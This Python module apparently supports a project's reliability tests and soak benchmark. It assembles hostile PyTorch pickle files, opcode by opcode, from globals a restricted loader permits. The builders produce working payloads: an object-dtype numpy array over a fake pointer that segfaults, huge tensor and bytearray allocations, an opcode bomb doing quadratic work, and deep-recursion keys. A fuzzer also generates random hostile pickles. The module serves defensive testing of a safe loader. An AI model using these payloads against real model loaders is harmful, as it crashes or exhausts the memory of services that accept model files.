"""Hostile files built only from globals the loader allows (issue 11, findings 1-5).

Each builder returns the bytes of a pickle assembled opcode by opcode (protocol 2, what
torch.save writes), to be put into a torch zip as ``data.pkl`` or used as a legacy stream. Shared by
``tests/reliability/test_allowed_globals.py`` and ``benchmarks/reliability_soak.py``.
"""

from __future__ import annotations

import random
import struct

# -- a tiny pickle assembler -------------------------------------------------------------------------


def g(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def s(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def i(n: int) -> bytes:
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def b(data: bytes) -> bytes:
    """Bytes as protocol 2 writes them: _codecs.encode(latin-1 text, 'latin1')."""
    return g("_codecs", "encode") + b"(" + s(data.decode("latin-1")) + s("latin1") + b"tR"


def t(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    return func + t(*args) + b"R"


def pkl(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def dict_of(**entries: bytes) -> bytes:
    return b"}(" + b"".join(s(k) + v for k, v in entries.items()) + b"u"


def storage(key: str, numel: int, kind: str = "FloatStorage") -> bytes:
    return t(s("storage"), g("torch", kind), s(key), s("cpu"), i(numel)) + b"Q"


def tensor(key: str, numel: int, size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0) -> bytes:
    return call(g("torch._utils", "_rebuild_tensor_v2"), storage(key, numel), i(offset),
                t(*map(i, size)), t(*map(i, stride)), b"\x89", call(g("collections", "OrderedDict")))


# -- the findings -------------------------------------------------------------------------------------


def object_array_in_set() -> bytes:
    """Finding 1: numpy.ndarray((1,), dtype('O'), bytearray(<pointer>)) passed to builtins.set (SIGSEGV)."""
    dtype_o = call(g("numpy", "dtype"), s("O"), b"\x89", b"\x88")
    arr = call(g("numpy", "ndarray"), t(i(1)), dtype_o, call(g("builtins", "bytearray"), b(b"\x41" * 8)))
    return pkl(dict_of(w=tensor("0", 4, (4,), (1,)), x=call(g("builtins", "set"), t(arr))))


def object_array_reconstructed() -> bytes:
    """Finding 1 through numpy's own pickle route: _reconstruct + BUILD with an object dtype."""
    arr = call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), t(i(0)), b(b"b"))
    state = t(i(1), t(i(1)), call(g("numpy", "dtype"), s("O8"), b"\x89", b"\x88"), b"\x89", b(b"\x41" * 8))
    return pkl(dict_of(w=tensor("0", 4, (4,), (1,)), x=arr + state + b"b"))


def ordered_dict_hiding_values() -> bytes:
    """Finding 2b: an OrderedDict whose BUILD state replaces ``values``."""
    od = call(g("collections", "OrderedDict")) + b"(" + s("w") + tensor("0", 4, (4,), (1,)) + b"u"
    return pkl(dict_of(state_dict=od + dict_of(values=s("x")) + b"b"))


def tensor_constructor(side: int = 40_000) -> bytes:
    """Finding 3: torch.FloatTensor(side, side) via REDUCE: no storage to check, side**2 * 4 bytes."""
    return pkl(dict_of(w=call(g("torch", "FloatTensor"), i(side), i(side))))


def bytearray_of_size(n: int = 3 << 30) -> bytes:
    """Finding 3: builtins.bytearray(N)."""
    return pkl(dict_of(w=tensor("0", 4, (4,), (1,)), x=call(g("builtins", "bytearray"), i(n))))


def stride_zero_view(rows: int = 1 << 20) -> bytes:
    """Finding 3: one stored float read as a rows x 1024 tensor (stride 0)."""
    return pkl(dict_of(w=tensor("0", 4, (rows, 1024), (0, 0))))


def numpy_device_tensor() -> bytes:
    """Finding 3: _rebuild_device_tensor_from_numpy."""
    arr = call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), t(i(0)), b(b"b"))
    state = t(i(1), t(i(4)), call(g("numpy", "dtype"), s("f4"), b"\x89", b"\x88"), b"\x89", b(bytes(16)))
    return pkl(dict_of(w=call(g("torch._utils", "_rebuild_device_tensor_from_numpy"), arr + state + b"b",
                              g("torch", "float32"), s("cpu"), b"\x89")))


def sparse_tensor() -> bytes:
    """Finding 3: a sparse COO tensor, densified by a reader."""
    layout = call(g("torch.serialization", "_get_layout"), s("torch.sparse_coo"))
    return pkl(dict_of(w=call(g("torch._utils", "_rebuild_sparse_tensor"), layout,
                              t(tensor("0", 4, (1, 1), (1, 1)), tensor("1", 4, (1,), (1,)), t(i(1 << 20), i(1 << 20))))))


def opcode_bomb(n: int = 12_000) -> bytes:
    """Finding 4: a few hundred KB of cheap opcodes (all of them ones torch accepts) doing quadratic
    work: set() of one n-item list, n times, each stored in the dict."""
    big = b"]q\x00(" + b"K\x01" * n + b"e"
    calls = b"".join(i(k) + g("builtins", "set") + b"(h\x00tRs" for k in range(n))
    return pkl(b"}" + s("w") + tensor("0", 4, (4,), (1,)) + b"s" + s("big") + big + b"s" + calls)


def deep_tuple_key(depth: int = 100_000) -> bytes:
    """Finding 5: a deeply nested tuple as a dict key (hashing it recurses)."""
    key = b"N" + b"\x85" * depth
    return pkl(b"}" + key + tensor("0", 4, (4,), (1,)) + b"s")


def meta_tensor() -> bytes:
    """Finding 5: a meta tensor (a shape without values)."""
    return pkl(dict_of(w=call(g("torch._utils", "_rebuild_meta_tensor_no_storage"), g("torch", "float32"),
                              t(i(4)), t(i(1)), b"\x89")))


def dtype_tensor(dtype: str) -> bytes:
    """Finding 5: a tensor of complex32 / bits8 / bits16 over an untyped storage."""
    return pkl(dict_of(w=call(g("torch._utils", "_rebuild_tensor_v3"), storage("0", 16, "UntypedStorage"), i(0),
                              t(i(4)), t(i(1)), b"\x89", call(g("collections", "OrderedDict")), g("torch", dtype))))


# -- the soak's generator: every allowed callable with adversarial arguments ------------------------------

CALLABLES = [
    ("builtins", "set"), ("builtins", "bytearray"), ("builtins", "complex"), ("_codecs", "encode"),
    ("collections", "OrderedDict"), ("collections", "Counter"), ("numpy", "dtype"), ("numpy", "ndarray"),
    ("numpy.core.multiarray", "_reconstruct"), ("numpy.core.multiarray", "scalar"), ("argparse", "Namespace"),
    ("torch", "Size"), ("torch", "device"), ("torch", "Tensor"), ("torch", "FloatTensor"),
    ("torch.cuda", "LongTensor"), ("torch.sparse", "FloatTensor"), ("torch", "FloatStorage"),
    ("torch.storage", "UntypedStorage"), ("torch.nn.parameter", "Parameter"),
    ("torch._utils", "_rebuild_tensor"), ("torch._utils", "_rebuild_tensor_v2"), ("torch._utils", "_rebuild_tensor_v3"),
    ("torch._utils", "_rebuild_parameter"), ("torch._utils", "_rebuild_parameter_with_state"),
    ("torch._utils", "_rebuild_qtensor"), ("torch._utils", "_rebuild_sparse_tensor"),
    ("torch._utils", "_rebuild_meta_tensor_no_storage"), ("torch._utils", "_rebuild_nested_tensor"),
    ("torch._utils", "_rebuild_wrapper_subclass"), ("torch._utils", "_rebuild_device_tensor_from_numpy"),
    ("torch._utils", "_rebuild_device_tensor_from_cpu_tensor"), ("torch._tensor", "_rebuild_from_type_v2"),
    ("torch.serialization", "_get_layout"), ("torch", "float32"), ("torch", "complex32"),
]  # fmt: skip


def _adversarial_arg(r: random.Random, depth: int = 0) -> bytes:
    choices = [
        lambda: i(r.choice([0, 1, -1, 7, 1 << 20, 1 << 31, 1 << 40, 1 << 62, 2**64, 10**30])),
        lambda: b(r.choice([b"", b"\x41" * 8, struct.pack("<Q", 0x7FFF0000DEAD), bytes(16), b"\xff" * 8])),
        lambda: s(r.choice(["O", "f4", "<f8", "V8", "O8", "(1000000000,)f8", "cpu", "latin1", "", "torch.sparse_coo"])),
        lambda: b"N", lambda: b"\x88", lambda: b"}", lambda: b"]", lambda: b")",
        lambda: storage("0", r.choice([0, 1, 4, 1 << 30])),
        lambda: g(*r.choice(CALLABLES)),
    ]
    if depth < 2:
        choices.append(lambda: t(*[_adversarial_arg(r, depth + 1) for _ in range(r.randrange(4))]))
        choices.append(lambda: _allowed_call(r, depth + 1))
    return r.choice(choices)()


def _allowed_call(r: random.Random, depth: int = 0) -> bytes:
    func = g(*r.choice(CALLABLES))
    args = [_adversarial_arg(r, depth) for _ in range(r.randrange(5))]
    kind = r.randrange(3)
    if kind == 0:
        return call(func, *args)
    if kind == 1:  # NEWOBJ
        return func + t(*args) + b"\x81"
    return call(func, *args[:2]) + _adversarial_arg(r, depth) + b"b"  # REDUCE then BUILD


def random_allowed_pickle(r: random.Random) -> bytes:
    """One data.pkl: a real-looking tensor entry and a few calls of allowed globals with hostile arguments."""
    entries = {"w": tensor("0", 4, (4,), (1,))}
    for k in range(r.randint(1, 4)):
        entries[f"x{k}"] = _allowed_call(r)
    return pkl(dict_of(**entries))


def write_zip(path, data_pkl: bytes, storages: dict[str, bytes] | None = None, *, deflate_pkl: bool = False):
    """A torch-layout zip (as torch.save writes it) holding ``data_pkl`` and raw storages (default: 16 bytes as '0')."""
    import zipfile

    storages = {"0": bytes(16), "1": bytes(16)} if storages is None else storages
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl, zipfile.ZIP_DEFLATED if deflate_pkl else zipfile.ZIP_STORED)
        z.writestr("archive/byteorder", "little")
        for key, data in storages.items():
            z.writestr(f"archive/data/{key}", data)
        z.writestr("archive/version", "3\n")
    return path
